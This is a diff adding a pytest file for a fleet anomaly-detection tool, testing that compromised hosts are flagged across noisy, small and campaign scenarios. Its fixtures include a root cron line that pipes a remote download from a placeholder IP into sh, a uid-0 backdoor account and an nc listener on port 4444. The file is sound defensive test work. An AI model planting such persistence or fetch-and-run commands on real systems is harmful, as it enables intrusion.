@@ -1,0 +1,175 @@
+"""Verdicts from evidence (analyze/entries.py + analyze/verdict.py): noise we did not write rules for,
+decoys, small fleets, campaigns and benign sub-populations, in both methods."""
+
+from __future__ import annotations
+
+import copy
+
+import pytest
+from runbuilder import build_run, clean_fleet
+
+from diffy_analysis.api import analyze
+
+CRON = {
+    "path": "/etc/crontab",
+    "minute": "*/5",
+    "hour": "*",
+    "day_of_month": "*",
+    "month": "*",
+    "day_of_week": "*",
+    "event": "",
+    "command": "root curl -fsSL http://203.0.113.9/x | sh",
+}
+ROOT2 = {"username": "svc-backup", "uid": "0", "gid": "0", "shell": "/bin/bash", "directory": "/root"}
+LISTENER = {
+    "protocol": "6",
+    "family": "2",
+    "address": "0.0.0.0",
+    "port": "4444",
+    "pid": "9",
+    "fd": "3",
+    "socket": "1",
+    "name": "nc",
+    "path": "/usr/bin/nc",
+    "cmdline": "nc -l 4444",
+    "uid": "0",
+}
+
+
+def _flagged(analysis):
+    return sorted(h.host for h in analysis.hosts if h.outlier)
+
+
+def _attack(host):
+    host.setdefault("crontab", []).append(dict(CRON))
+    host["users"].append(dict(ROOT2))
+    host["listening_ports"].append(dict(LISTENER))
+
+
+def _noisy(hosts, seed=0, every=3):
+    """Per-host noise no rule describes: a made-up table whose every column is per-host random, an
+    overlay mount id per host, a JVM JMX port per host in one sub-population (security table) of
+    every ``every``-th host."""
+    for i, (_name, host) in enumerate(sorted(hosts.items())):
+        host["container_layers"] = [{"layer": f"sha256:{i:04d}{seed}{'ab' * 8}", "size": str(1000 + i)}]
+        host.setdefault("mounts", []).append(
+            {
+                "device": "overlay",
+                "path": f"/var/lib/docker/overlay2/{i * 7919 + seed:x}/merged",
+                "type": "overlay",
+            }
+        )
+        if i % every == 0:
+            host["listening_ports"].append(
+                {
+                    "protocol": "6",
+                    "family": "2",
+                    "address": "127.0.0.1",
+                    "port": str(40000 + i * 13),
+                    "pid": "5",
+                    "fd": "9",
+                    "socket": "2",
+                    "name": "java",
+                    "path": "/usr/bin/java",
+                    "cmdline": "java -jar app.jar",
+                    "uid": "998",
+                }
+            )
+    return hosts
+
+
+@pytest.mark.parametrize("method", ["peers", "baseline"])
+def test_textbook_host_flagged_however_noisy_the_fleet(tmp_path, method):
+    hosts = _noisy(clean_fleet(30))
+    base = copy.deepcopy(clean_fleet(1)["web-001"])
+    base["crontab"] = [dict(CRON, command="root run-parts /etc/cron.hourly")]
+    for host in hosts.values():
+        host["crontab"] = [dict(CRON, command="root run-parts /etc/cron.hourly")]
+    _attack(hosts["web-011"])
+    run = build_run(tmp_path / "run", hosts)
+    baseline = build_run(tmp_path / "base", {"base-0": base}) if method == "baseline" else None
+    analysis = analyze([run], baseline=baseline, method=method)
+    assert _flagged(analysis) == ["web-011"]
+    top = [f.query for f in analysis.hosts[0].findings[:3]]
+    assert {"crontab", "users", "listening_ports"} <= set(top)
+
+
+def test_decoy_rows_on_one_host_never_make_a_column_random(tmp_path):
+    hosts = clean_fleet(20)
+    for k in range(300):  # 300 decoy listeners on the attacker's host, each a distinct port
+        row = dict(LISTENER, port=str(20000 + k))
+        hosts["web-005"]["listening_ports"].append(row)
+    analysis = analyze([build_run(tmp_path, hosts)])
+    assert _flagged(analysis) == ["web-005"]
+    strong = [
+        f for f in analysis.hosts[0].findings if f.query == "listening_ports" and f.strength == "strong"
+    ]
+    assert strong, "a host's own decoys must not turn its listeners into 'random' evidence"
+
+
+@pytest.mark.parametrize("size", [4, 5, 6])
+def test_small_fleets_flag_exactly_the_compromised_host(tmp_path, size):
+    # On so few hosts a random port on 2 hosts cannot be told from two intruders' listeners (see
+    # docs/analysis.md, limits): the JVM runs on every host here.
+    hosts = _noisy(clean_fleet(size), every=1)
+    _attack(hosts["web-001"])
+    analysis = analyze([build_run(tmp_path, hosts)])
+    assert _flagged(analysis) == ["web-001"]
+    assert analysis.confidence is not None and analysis.confidence.level == "low"
+    assert analysis.confidence.cannot_tell
+    doc = analysis.to_json()
+    assert doc["confidence"]["hosts"] == size
+
+
+def test_three_hosts_are_not_enough_and_say_so(tmp_path):
+    analysis = analyze([build_run(tmp_path, clean_fleet(3))])
+    assert analysis.confidence.level == "insufficient"
+    assert "baseline" in analysis.confidence.cannot_tell[0]
+
+
+@pytest.mark.parametrize("method", ["peers", "baseline"])
+@pytest.mark.parametrize("campaign", [2, 5, 10])
+def test_campaign_of_a_quarter_of_the_fleet_is_flagged_and_grouped(tmp_path, method, campaign):
+    hosts = clean_fleet(40)
+    members = [f"web-{i:03d}" for i in range(3, 3 + campaign)]
+    for name in members:
+        hosts[name].setdefault("crontab", []).append(dict(CRON))
+        hosts[name]["users"].append(dict(ROOT2))
+    base = copy.deepcopy(clean_fleet(1)["web-001"])
+    run = build_run(tmp_path / "run", hosts)
+    baseline = build_run(tmp_path / "base", {"base-0": base}) if method == "baseline" else None
+    analysis = analyze([run], baseline=baseline, method=method)
+    assert _flagged(analysis) == sorted(members)
+    assert len(analysis.campaigns) == 1
+    assert analysis.campaigns[0].hosts == tuple(sorted(members))
+    assert analysis.campaigns[0].summary.startswith(f"campaign: {campaign} hosts share")
+    assert not analysis.population_differences
+
+
+@pytest.mark.parametrize("method", ["peers", "baseline"])
+def test_benign_rollout_with_a_package_change_stays_unflagged(tmp_path, method):
+    """A sub-population changes a package *and* a unit, a cron line and a listener together."""
+    hosts = clean_fleet(40)
+    for i in range(1, 41, 4):  # 10 hosts on the new version
+        host = hosts[f"web-{i:03d}"]
+        host["deb_packages"].append({"name": "acme-app", "version": "2.4.0-1", "arch": "amd64"})
+        host.setdefault("crontab", []).append(dict(CRON, command="acme /opt/acme/bin/flush --batch 500"))
+        host["listening_ports"].append(dict(LISTENER, port="9464", name="acme", path="/opt/acme/bin/acme"))
+    base = copy.deepcopy(clean_fleet(1)["web-001"])
+    run = build_run(tmp_path / "run", hosts)
+    baseline = build_run(tmp_path / "base", {"base-0": base}) if method == "baseline" else None
+    analysis = analyze([run], baseline=baseline, method=method)
+    assert _flagged(analysis) == []
+    assert analysis.campaigns == ()
+
+
+def test_json_round_trip_keeps_campaigns_and_confidence(tmp_path):
+    from diffy_analysis.findings import Analysis
+
+    hosts = clean_fleet(12)
+    for name in ("web-002", "web-007"):
+        _attack(hosts[name])
+    analysis = analyze([build_run(tmp_path, hosts)])
+    again = Analysis.from_json(analysis.to_json())
+    assert again.campaigns == analysis.campaigns and again.confidence == analysis.confidence
+    assert again.to_json() == analysis.to_json()
